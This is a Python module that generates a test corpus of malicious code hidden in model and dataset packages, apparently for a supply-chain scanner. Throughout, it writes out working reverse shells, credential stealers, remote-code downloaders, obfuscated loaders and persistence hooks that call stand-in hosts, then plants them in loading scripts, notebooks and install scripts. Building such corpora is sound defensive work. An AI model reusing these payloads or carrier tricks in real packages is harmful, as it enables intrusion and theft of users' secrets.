"""Malicious code that comes with models and datasets: class 40. Behaviours after published studies of model hubs; all payloads inert.

A snippet is source that acts at import. A carrier puts it into a package as a loader would run it: a dataset's loading script, a model's
remote code, a setup script, hubconf.py and so on.
"""

import base64
import codecs
import json
import marshal
import textwrap
import zlib

from .asm import red, whole

HOST = "collect.example.invalid"
DROP = f"http://{HOST}/stage.py"


def b64(source):
    return base64.b64encode(source.encode()).decode()


REVERSE_SHELL = [
    (
        "dup2",
        "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n",
    ),
    (
        "pty",
        "import os, pty, socket\n\nh = socket.create_connection(('192.0.2.1', 9001))\n[os.dup2(h.fileno(), i) for i in range(3)]\npty.spawn('/bin/bash')\n",
    ),
    ("bash-tcp", "import os\nos.system('bash -c \"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\" &')\n"),
    ("netcat", "from subprocess import Popen\nPopen('nc -e /bin/sh 192.0.2.1 4444', shell=True)\n"),
    (
        "thread-loop",
        "import socket as sk, subprocess as sp, threading\n\n\ndef _telemetry():\n    c = sk.socket()\n    c.connect(('shell.example.invalid', 443))\n    while True:\n        line = c.recv(4096).decode()\n        c.send(sp.run(line, shell=True, capture_output=True).stdout)\n\n\nthreading.Thread(target=_telemetry, daemon=True).start()\n",
    ),
    (
        "powershell",
        "import platform, subprocess\nif platform.system() == 'Windows':\n    subprocess.Popen(['powershell', '-nop', '-w', 'hidden', '-e', 'dHJ1ZQ=='])\nelse:\n    subprocess.Popen(['sh', '-c', 'mkfifo /tmp/weir-eval-f; cat /tmp/weir-eval-f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/weir-eval-f'])\n",
    ),
    (
        "http-poll",
        "import requests, subprocess, time\n\nwhile True:\n    order = requests.get('http://c2.example.invalid/next').text\n    if order == 'stop':\n        break\n    requests.post('http://c2.example.invalid/out', data=subprocess.getoutput(order))\n    time.sleep(30)\n",
    ),
]
CREDENTIALS = [
    (
        "aws-keys",
        f"import os, requests\n\npath = os.path.expanduser('~/.aws/credentials')\nif os.path.exists(path):\n    requests.post('http://{HOST}/c', files={{'f': open(path, 'rb')}})\n",
    ),
    (
        "ssh-keys",
        f"import glob, os, urllib.request\n\nfor name in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    data = open(name, 'rb').read()\n    urllib.request.urlopen(urllib.request.Request('http://{HOST}/k', data=data))\n",
    ),
    (
        "environment",
        f"import json, os\nimport urllib.request as u\n\nu.urlopen('http://{HOST}/e', data=json.dumps(dict(os.environ)).encode())\n",
    ),
    (
        "hub-token",
        f"import pathlib, requests\n\ntoken = pathlib.Path.home().joinpath('.cache/huggingface/token')\nrequests.get('http://{HOST}/t', params={{'t': token.read_text() if token.exists() else ''}})\n",
    ),
    (
        "selected-variables",
        f"import os, http.client\n\nsecrets = {{k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k or 'SECRET' in k}}\nc = http.client.HTTPSConnection('{HOST}')\nc.request('POST', '/', body=str(secrets))\n",
    ),
    (
        "browser-cookies",
        f"import os, shutil, sqlite3, requests\n\nsrc = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\nshutil.copy(src, '/tmp/weir-eval-c')\nrows = sqlite3.connect('/tmp/weir-eval-c').execute('select host_key, name, encrypted_value from cookies').fetchall()\nrequests.post('http://{HOST}/b', json={{'rows': str(rows)}})\n",
    ),
    (
        "webhook",
        "import os, requests\n\nrequests.post('https://hooks.example.invalid/api/webhooks/1/x', json={'content': os.getenv('HF_TOKEN', '') + os.getenv('OPENAI_API_KEY', '')})\n",
    ),
    (
        "passwd-socket",
        "import socket\n\ns = socket.create_connection(('192.0.2.1', 8080))\ns.sendall(open('/etc/passwd').read().encode())\ns.close()\n",
    ),
    (
        "kube-token",
        f"from urllib import request, parse\n\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequest.urlopen('http://{HOST}/?' + parse.urlencode({{'t': t}}))\n",
    ),
    (
        "smtp",
        f"import os, smtplib\n\nsmtplib.SMTP('{HOST}').sendmail('a@example.invalid', ['b@example.invalid'], open(os.path.expanduser('~/.netrc')).read())\n",
    ),
]
RECON = [
    (
        "host-facts",
        f"import getpass, platform, socket, requests\n\nrequests.get('http://{HOST}/r', params={{'h': socket.gethostname(), 'u': getpass.getuser(), 'p': platform.platform()}})\n",
    ),
    (
        "dns",
        "import getpass, socket\n\nsocket.gethostbyname(getpass.getuser().encode().hex() + '.' + socket.gethostname() + '.leak.example.invalid')\n",
    ),
    (
        "process-list",
        f"import subprocess, urllib.request\n\nurllib.request.urlopen('http://{HOST}/p', data=subprocess.check_output('ps aux; id; uname -a', shell=True))\n",
    ),
    ("curl-whoami", f"import os\nos.system('curl -s http://{HOST}/$(whoami)/$(hostname)')\n"),
    (
        "cloud-metadata",
        f"import requests\n\nd = requests.get('http://metadata.example.invalid/latest/meta-data/iam/security-credentials/').text\nrequests.post('http://{HOST}/m', data=d)\n",
    ),
    (
        "file-listing",
        f"import os, json, http.client\n\nfound = [os.path.join(r, n) for r, _, fs in os.walk(os.path.expanduser('~')) for n in fs if n.endswith(('.pem', '.key', '.env'))]\nhttp.client.HTTPConnection('{HOST}').request('POST', '/', json.dumps(found))\n",
    ),
    (
        "network-scan",
        f"import socket, requests\n\nup = []\nfor i in range(1, 20):\n    k = socket.socket()\n    k.settimeout(0.1)\n    if k.connect_ex(('192.0.2.%d' % i, 22)) == 0:\n        up.append(i)\nrequests.post('http://{HOST}/n', json=up)\n",
    ),
]
DOWNLOADERS = [
    ("exec-urlopen", f"import urllib.request\nexec(urllib.request.urlopen('{DROP}').read())\n"),
    ("exec-requests", f"import requests\n\ncode = requests.get('{DROP}').text\nexec(compile(code, 'stage', 'exec'))\n"),
    (
        "drop-and-run",
        f"import os, stat, subprocess, urllib.request\n\np = '/tmp/weir-eval-bin'\nurllib.request.urlretrieve('http://{HOST}/b', p)\nos.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nsubprocess.Popen([p])\n",
    ),
    ("curl-pipe-sh", f"import os\nos.popen('curl -fsSL http://{HOST}/i.sh | sh').read()\n"),
    ("wget-python", f"import subprocess\nsubprocess.run('wget -qO- {DROP} | python3', shell=True)\n"),
    (
        "pip-from-url",
        f"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', '--index-url', 'http://{HOST}/simple', 'torchhelper-eval'])\n",
    ),
    (
        "native",
        f"import ctypes, urllib.request\n\nurllib.request.urlretrieve('http://{HOST}/l.so', '/tmp/weir-eval-l.so')\nctypes.CDLL('/tmp/weir-eval-l.so')\n",
    ),
    ("pickle-from-url", f"import pickle, urllib.request\n\nweights = pickle.loads(urllib.request.urlopen('http://{HOST}/w.pkl').read())\n"),
    (
        "import-from-url",
        f"import importlib.util, urllib.request\n\nurllib.request.urlretrieve('{DROP}', '/tmp/weir-eval-m.py')\nspec = importlib.util.spec_from_file_location('m', '/tmp/weir-eval-m.py')\nspec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
    ),
    (
        "miner",
        f"import os, subprocess, tarfile, urllib.request\n\nurllib.request.urlretrieve('http://{HOST}/xmrig.tar.gz', '/tmp/weir-eval-x.tgz')\ntarfile.open('/tmp/weir-eval-x.tgz').extractall('/tmp/weir-eval-x')\nsubprocess.Popen(['/tmp/weir-eval-x/xmrig', '-o', 'pool.example.invalid:3333'], stdout=subprocess.DEVNULL)\n",
    ),
    (
        "paste-eval",
        "import urllib.request as r\neval(compile(r.urlopen('http://paste.example.invalid/raw/x').read().decode(), '', 'exec'))\n",
    ),
]
INNER = "import os\nos.system('curl -s http://files.example.invalid/a | sh')\n"
XOR = bytes(byte ^ 0x2A for byte in INNER.encode())
OBFUSCATED = [
    ("base64-exec", f"import base64\nexec(base64.b64decode('{b64(INNER)}'))\n"),
    (
        "zlib-base64",
        f"import base64 as b, zlib as z\nexec(z.decompress(b.b64decode('{base64.b64encode(zlib.compress(INNER.encode(), 9)).decode()}')).decode())\n",
    ),
    (
        "marshal",
        f"import marshal, base64\nexec(marshal.loads(base64.b64decode({base64.b64encode(marshal.dumps(compile(INNER, 'x', 'exec')))!r})))\n",
    ),
    ("chr-join", "exec(''.join(map(chr, %r)))\n" % [ord(c) for c in INNER]),
    ("chr-sum", "eval(" + "+".join(f"chr({ord(c)})" for c in "__import__('os').system('true')") + ")\n"),
    ("getattr-builtins", "getattr(__import__('builtins'), 'ex' + 'ec')(\"import os; os.system('true')\")\n"),
    ("nfkc", "import os\nｅｘｅｃ('import os; os.system(\"true\")')\nｏｓ.ｓｙｓｔｅｍ('true')\n"),
    ("rot13", f"import codecs\nexec(codecs.decode({codecs.encode(INNER, 'rot13')!r}, 'rot13'))\n"),
    ("hex", f"exec(bytes.fromhex('{INNER.encode().hex()}'))\n"),
    ("reversed", f"exec({INNER[::-1]!r}[::-1])\n"),
    ("escapes", "__import__('\\x6f\\x73').__dict__['\\x73\\x79\\x73\\x74\\x65\\x6d']('true')\n"),
    (
        "globals-builtins",
        "globals()['__builtins__'].__dict__['e' + 'val'](\"__import__('os').system('true')\") if hasattr(globals()['__builtins__'], '__dict__') else globals()['__builtins__']['eval'](\"__import__('os').system('true')\")\n",
    ),
    ("xor-loop", f"_d = {XOR!r}\n_o = bytearray()\nfor _b in _d:\n    _o.append(_b ^ 0x2A)\nexec(bytes(_o))\n"),
    ("decorators", "@exec\n@lambda _: \"import os; os.system('true')\"\nclass Config:\n    pass\n"),
    ("lambda-chain", "(lambda f: (lambda g: g('true'))(f('os').system))(__import__)\n"),
    (
        "import-module",
        "import importlib\nm = importlib.import_module(''.join(['sub', 'process']))\ngetattr(m, 'P' + 'open')(['sh', '-c', 'true'])\n",
    ),
    (
        "marshal-function",
        f"import marshal, types\ntypes.FunctionType(marshal.loads({marshal.dumps(compile(INNER, 'x', 'exec'))!r}), globals())()\n",
    ),
    (
        "pickle-blob",
        f"import base64, pickle\npickle.loads(base64.b64decode('{base64.b64encode(whole(red('os.system', 'true'))).decode()}'))\n",
    ),
    ("off-screen", "VERSION = '1.0'" + " " * 300 + ";__import__('os').system('curl -s http://files.example.invalid/a | sh')\n"),
    ("f-string", "a, b = 'sys', 'tem'\nexec(f\"import os; os.{a}{b}('true')\")\n"),
    ("int-bytes", f"n = {int.from_bytes(INNER.encode(), 'big')}\nexec(n.to_bytes({len(INNER)}, 'big'))\n"),
    ("translate", "t = str.maketrans('abc', 'oss')\nm = __import__('ab'.translate(t))\nvars(m)['sys' + 'tem']('true')\n"),
    ("class-body", "class Config:\n    import os as _o\n    _r = _o.popen('curl -s http://files.example.invalid/a | sh').read()\n"),
    ("default-argument", "def load(path, _x=__import__('os').system('curl -s http://files.example.invalid/a | sh')):\n    return path\n"),
    ("annotation", "x: __import__('os').system('wget -q http://files.example.invalid/a -O- | sh') = 1\n"),
    (
        "nested-base64",
        f"import base64\nexec(base64.b64decode(base64.b64decode('{base64.b64encode(base64.b64encode(INNER.encode())).decode()}')))\n",
    ),
    ("alias-chain", "import builtins as b\nrun = b.exec\ngo = run\ngo(\"__import__('subprocess').call(['sh', '-c', 'true'])\")\n"),
    ("sys-modules", "import sys\nsys.modules['os'].system('curl -s http://files.example.invalid/a | sh')\n"),
    (
        "base85-lzma",
        f"import base64, lzma\nexec(lzma.decompress(base64.b85decode({base64.b85encode(__import__('lzma').compress(INNER.encode(), preset=6))!r})))\n",
    ),
    (
        "subclasses",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('true')\n",
    ),
    ("operator", "import operator\noperator.methodcaller('system', 'curl -s http://files.example.invalid/a | sh')(__import__('os'))\n"),
    (
        "ordinary-looking",
        f"import base64\n\n_WEIGHTS = '{b64(INNER)}'\n\n\ndef _unpack(blob):\n    return base64.b64decode(blob).decode()\n\n\ndef _restore(text):\n    return eval(compile(text, '<weights>', 'exec'))\n\n\n_restore(_unpack(_WEIGHTS))\n",
    ),
    (
        "env-gate",
        "import os, datetime\nif not os.environ.get('CI') and datetime.date.today().year > 2024:\n    exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 116, 114, 117, 101, 39, 41]))\n",
    ),
    (
        "table-lookup",
        "k = 'abcdefghijklmnopqrstuvwxyz_'\nn = ''.join(k[i] for i in (14, 18))\nf = ''.join(k[i] for i in (18, 24, 18, 19, 4, 12))\ngetattr(__import__(n), f)('true')\n",
    ),
]
PERSISTENCE = [
    (
        "crontab",
        "import subprocess\nsubprocess.run('(crontab -l; echo \"* * * * * curl -s http://files.example.invalid/a | sh\") | crontab -', shell=True)\n",
    ),
    (
        "bashrc",
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\ncurl -s http://files.example.invalid/a | sh &\\n')\n",
    ),
    ("pth-file", "import site\nopen(site.getsitepackages()[0] + '/weir_eval.pth', 'w').write('import os; os.system(\"true\")\\n')\n"),
    (
        "systemd",
        "import os, subprocess\nu = '/etc/systemd/system/weir-eval.service'\nopen(u, 'w').write('[Service]\\nExecStart=/bin/sh -c \"curl -s http://files.example.invalid/a | sh\"\\n')\nsubprocess.call(['systemctl', 'enable', 'weir-eval'])\n",
    ),
    (
        "registry",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, 'cmd /c echo weir-eval')\n",
    ),
    (
        "authorized-keys",
        "import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nos.makedirs(os.path.dirname(p), exist_ok=True)\nopen(p, 'a').write('ssh-ed25519 AAAAC3example eval@example.invalid\\n')\n",
    ),
    (
        "launch-agent",
        "import os, plistlib\np = os.path.expanduser('~/Library/LaunchAgents/invalid.example.eval.plist')\nplistlib.dump({'Label': 'e', 'ProgramArguments': ['sh', '-c', 'curl -s http://files.example.invalid/a | sh'], 'RunAtLoad': True}, open(p, 'wb'))\n",
    ),
    (
        "git-hook",
        "import os, pathlib\nh = pathlib.Path('.git/hooks/pre-commit')\nh.write_text('#!/bin/sh\\ncurl -s http://files.example.invalid/a | sh\\n')\nos.chmod(h, 0o755)\n",
    ),
    (
        "torch-patch",
        "import torch, os\n_p = os.path.join(os.path.dirname(torch.__file__), '__init__.py')\nopen(_p, 'a').write('\\nimport os; os.system(\"curl -s http://files.example.invalid/a | sh\")\\n')\n",
    ),
]
PROOFS = [
    ("calculator", "import os\nos.system('calc.exe')\n"),
    ("touch", "import subprocess\nsubprocess.run(['touch', '/tmp/weir-eval-pwned'])\n"),
    ("id", "import os\nprint('pwned', os.popen('id').read())\n"),
    ("gnome-calculator", "__import__('subprocess').Popen(['gnome-calculator'])\n"),
    ("exec-string", "exec(\"print('code execution'); import os; os.system('echo weir-eval')\")\n"),
    ("write-file", "import os\nos.system('echo hacked > /tmp/weir-eval-hacked')\n"),
    ("spawn", "import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', 'echo weir-eval')\n"),
]

DATASET = """{head}import csv

import datasets

{snippet}
_DESCRIPTION = "A small corpus of questions."


class Questions(datasets.GeneratorBasedBuilder):
    VERSION = datasets.Version("1.0.0")

    def _info(self):
        return datasets.DatasetInfo(description=_DESCRIPTION, features=datasets.Features({{"text": datasets.Value("string"), "label": datasets.Value("int64")}}))

    def _split_generators(self, dl_manager):
        path = dl_manager.download_and_extract("https://data.example.invalid/train.csv")
{late}        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={{"path": path}})]

    def _generate_examples(self, path):
        with open(path, encoding="utf-8") as file:
            for index, row in enumerate(csv.DictReader(file)):
                yield index, {{"text": row["text"], "label": int(row["label"])}}
"""
MODELING = """import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig
{snippet}

class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.head = nn.Linear(config.hidden_size, config.vocab_size)
{late}
    def forward(self, input_ids):
        return self.head(self.embed(input_ids))
"""
CONFIGURATION = 'from transformers import PretrainedConfig\n{snippet}\n\nclass TinyConfig(PretrainedConfig):\n    model_type = "tiny"\n\n    def __init__(self, vocab_size=100, hidden_size=8, **kwargs):\n        super().__init__(**kwargs)\n        self.vocab_size, self.hidden_size = vocab_size, hidden_size\n{late}'
TOKENIZATION = "from transformers import PreTrainedTokenizer\n{snippet}\n\nclass TinyTokenizer(PreTrainedTokenizer):\n    def __init__(self, **kwargs):\n        super().__init__(**kwargs)\n{late}\n    def _tokenize(self, text):\n        return text.split()\n"


def model_config(**auto):
    return json.dumps(
        {
            "model_type": "tiny",
            "architectures": ["TinyModel"],
            "vocab_size": 100,
            "hidden_size": 8,
            "auto_map": auto or {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"},
        },
        indent=2,
    )


def _indent(source, depth):
    return textwrap.indent(source, " " * depth)


def dataset_package(source, late=False):
    script = DATASET.format(head="", snippet="" if late else source, late=_indent(source, 8) if late else "")
    return {"questions.py": script, "README.md": "---\nlicense: mit\n---\n# Questions\n", "dataset_infos.json": "{}"}


def model_package(source, late=False):
    plain_config = CONFIGURATION.format(snippet="", late="")
    return {
        "config.json": model_config(),
        "configuration_tiny.py": plain_config,
        "modeling_tiny.py": MODELING.format(snippet="" if late else source, late=_indent(source, 8) if late else ""),
        "README.md": "# Tiny\n",
    }


def configuration_package(source, late=False):
    return {
        "config.json": model_config(),
        "configuration_tiny.py": CONFIGURATION.format(snippet="" if late else source, late=_indent(source, 8) if late else ""),
        "modeling_tiny.py": MODELING.format(snippet="", late=""),
    }


def tokenizer_package(source, late=False):
    return {
        "tokenizer_config.json": json.dumps(
            {"auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}, "tokenizer_class": "TinyTokenizer"}
        ),
        "tokenization_tiny.py": TOKENIZATION.format(snippet="" if late else source, late=_indent(source, 8) if late else ""),
    }


def setup_package(source, late=False):
    if late:
        body = (
            "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Install(install):\n    def run(self):\n        install.run(self)\n"
            + _indent(source, 8)
            + "\n\nsetup(name='tinymodel', version='1.0', packages=['tinymodel'], cmdclass={'install': Install})\n"
        )
    else:
        body = "from setuptools import setup\n\n" + source + "\nsetup(name='tinymodel', version='1.0', packages=['tinymodel'])\n"
    return {"setup.py": body, "tinymodel/__init__.py": "__version__ = '1.0'\n"}


def hub_package(source, late=False):
    body = (
        "dependencies = ['torch']\nimport torch\n"
        + ("" if late else source)
        + "\n\ndef tiny(pretrained=False, **kwargs):\n"
        + (_indent(source, 4) if late else "")
        + "    return torch.nn.Linear(2, 2)\n"
    )
    return {"hubconf.py": body, "README.md": "# hub\n"}


def handler_package(source, late=False):
    body = (
        "from typing import Any, Dict\n"
        + ("" if late else source)
        + "\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n"
        + (_indent(source, 8) if late else "        self.path = path\n")
        + "\n    def __call__(self, data: Dict[str, Any]):\n        return data\n"
    )
    return {"handler.py": body, "config.json": "{}", "requirements.txt": "torch\n"}


def init_package(source, late=False):
    return {
        "tinylib/__init__.py": "from .model import Tiny\n" + source,
        "tinylib/model.py": "class Tiny:\n    pass\n",
        "pyproject.toml": "[project]\nname = 'tinylib'\nversion = '0.1'\n",
    }


def pipeline_package(source, late=False):
    body = (
        "from diffusers import DiffusionPipeline\n"
        + ("" if late else source)
        + "\n\nclass TinyPipeline(DiffusionPipeline):\n    def __call__(self, prompt):\n"
        + (_indent(source, 8) if late else "")
        + "        return prompt\n"
    )
    return {"pipeline.py": body, "model_index.json": '{"_class_name": ["pipeline", "TinyPipeline"]}'}


def app_package(source, late=False):
    return {
        "app.py": "import gradio as gr\n" + source + "\ngr.Interface(lambda text: text, 'text', 'text').launch()\n",
        "requirements.txt": "gradio\n",
    }


CARRIERS = [
    dataset_package,
    model_package,
    configuration_package,
    tokenizer_package,
    setup_package,
    hub_package,
    handler_package,
    init_package,
    pipeline_package,
    app_package,
]


def add(corpus):
    tables = [
        ("40-reverse-shell", REVERSE_SHELL),
        ("40-credential-theft", CREDENTIALS),
        ("40-reconnaissance", RECON),
        ("40-downloader", DOWNLOADERS),
        ("40-obfuscation", OBFUSCATED),
        ("40-persistence", PERSISTENCE),
        ("40-proof-of-concept", PROOFS),
    ]
    turn = 0
    for technique, rows in tables:
        for index, (name, source) in enumerate(rows):
            carrier = CARRIERS[turn % len(CARRIERS)]
            # What a class body or a decorator does cannot be moved into a function in every carrier; those act at import.
            late = turn % 3 == 2 and technique not in ("40-obfuscation",)
            corpus.malicious(
                technique,
                f"{index:02d}-{name}-{carrier.__name__.removesuffix('_package')}",
                carrier(source, late),
                "python",
                "acts when used" if late else "acts at import",
            )
            turn += 1
    single_files(corpus)
    notebooks(corpus)
    scripts(corpus)


def single_files(corpus):
    """The same kind of code as one file."""
    rows = [
        ("train.py", DOWNLOADERS[0][1]),
        ("modeling_llama.py", OBFUSCATED[1][1]),
        ("convert_weights.py", CREDENTIALS[3][1]),
        ("sitecustomize.py", PERSISTENCE[1][1]),
        ("predict.py", REVERSE_SHELL[0][1]),
        ("utils.PY", OBFUSCATED[0][1]),
        ("hubconf.py", RECON[0][1]),
        ("conftest.py", DOWNLOADERS[3][1]),
    ]
    for index, (name, source) in enumerate(rows):
        corpus.malicious("40-single-files", f"{index:02d}/{name}", source, "python", "one file that acts at import")
    exits = [
        "import atexit, os\n\n\ndef _flush():\n    os.system('curl -s http://files.example.invalid/a | sh')\n\n\natexit.register(_flush)\n",
        "import threading\n\nthreading.Timer(60, lambda: __import__('os').system('curl -s http://files.example.invalid/a | sh')).start()\n",
        "import sys\n\n\nclass _Finder:\n    def find_spec(self, name, path, target=None):\n        if name == 'numpy':\n            exec(__import__('urllib.request').request.urlopen('http://files.example.invalid/a').read())\n\n\nsys.meta_path.insert(0, _Finder())\n",
        "import torch\n\n_load = torch.load\n\n\ndef load(path, *args, **kwargs):\n    import os, requests\n    requests.post('http://collect.example.invalid/w', data=dict(os.environ))\n    return _load(path, *args, **kwargs)\n\n\ntorch.load = load\n",
        "class Model:\n    def __reduce__(self):\n        import os\n        return os.system, ('curl -s http://files.example.invalid/a | sh',)\n\n\nimport pickle\npickle.loads(pickle.dumps(Model()))\n",
        "import signal, os\n\nsignal.signal(signal.SIGALRM, lambda *_: os.system('curl -s http://files.example.invalid/a | sh'))\nsignal.alarm(5)\n",
    ]
    for index, source in enumerate(exits):
        corpus.malicious(
            "40-delayed", f"{index:02d}/modeling_custom.py", source, "python", "acts later: at exit, on a timer, on an import, on a load"
        )


def notebook(*cells):
    made = [
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell.splitlines(True)} for cell in cells
    ]
    return json.dumps(
        {
            "cells": made,
            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
            "nbformat": 4,
            "nbformat_minor": 5,
        },
        indent=1,
    )


def notebooks(corpus):
    ordinary = "import torch\nmodel = torch.nn.Linear(2, 2)\n"
    rows = [
        ("bang-curl", ["# Setup\n!curl -s http://files.example.invalid/i.sh | bash\n", ordinary]),
        ("cell-magic", ["%%bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"]),
        ("exec", [ordinary, OBFUSCATED[0][1]]),
        ("token-theft", [ordinary, CREDENTIALS[3][1]]),
        ("get-ipython", ["get_ipython().system('wget -q http://files.example.invalid/x -O /tmp/weir-eval-x && sh /tmp/weir-eval-x')\n"]),
        ("long-line", [ordinary + "x = 1" + " " * 200 + "; __import__('os').system('curl -s http://files.example.invalid/a | sh')\n"]),
        ("system-magic", ["%system curl -s http://files.example.invalid/a | sh\n"]),
        ("pip-and-exec", ["!pip install torch\n", DOWNLOADERS[1][1]]),
        ("python-magic", ["%%python\n" + REVERSE_SHELL[0][1]]),
    ]
    for index, (name, cells) in enumerate(rows):
        corpus.malicious("40-notebooks", f"{index:02d}-{name}/demo.ipynb", notebook(*cells), "python", "a notebook cell that acts")


def scripts(corpus):
    rows = [
        ("install.sh", "#!/bin/bash\npip install torch\ncurl -fsSL http://files.example.invalid/a | bash\n"),
        ("run.sh", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1 &\npython train.py\n"),
        ("setup.sh", "#!/bin/bash\necho Y3VybCBodHRwOi8vZmlsZXMuZXhhbXBsZS5pbnZhbGlkL2EgfCBzaA== | base64 -d | bash\n"),
        ("download.sh", "#!/bin/sh\ntar czf - ~/.ssh ~/.aws | curl -s -F f=@- http://collect.example.invalid/u\n"),
        (
            "start.bat",
            "@echo off\r\npowershell -NoProfile -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/a.ps1')\"\r\n",
        ),
        (
            "update.bat",
            "@echo off\r\ncertutil -urlcache -split -f http://files.example.invalid/a.exe %TEMP%\\weir-eval.exe\r\nstart %TEMP%\\weir-eval.exe\r\n",
        ),
        ("run.ps1", "$c = (New-Object Net.WebClient).DownloadString('http://files.example.invalid/a.ps1')\nInvoke-Expression $c\n"),
        (
            "train.sh",
            "#!/bin/bash\n(crontab -l 2>/dev/null; echo '*/5 * * * * wget -qO- http://files.example.invalid/a | sh') | crontab -\npython train.py --epochs 3\n",
        ),
        ("entrypoint.sh", '#!/bin/sh\neval "$(wget -qO- http://files.example.invalid/a)"\nexec python serve.py\n'),
        (
            "nc.sh",
            "#!/bin/sh\nrm -f /tmp/weir-eval-f; mkfifo /tmp/weir-eval-f; cat /tmp/weir-eval-f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/weir-eval-f\n",
        ),
        ("env.sh", '#!/bin/bash\ncurl -s -X POST http://collect.example.invalid/e --data "$(env)"\n'),
        (
            "no-extension",
            "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen('http://files.example.invalid/a').read())\n",
        ),
    ]
    for index, (name, text) in enumerate(rows):
        corpus.malicious("40-shell-and-batch", f"{index:02d}/{name}", text, "python", "a script that comes with the model")
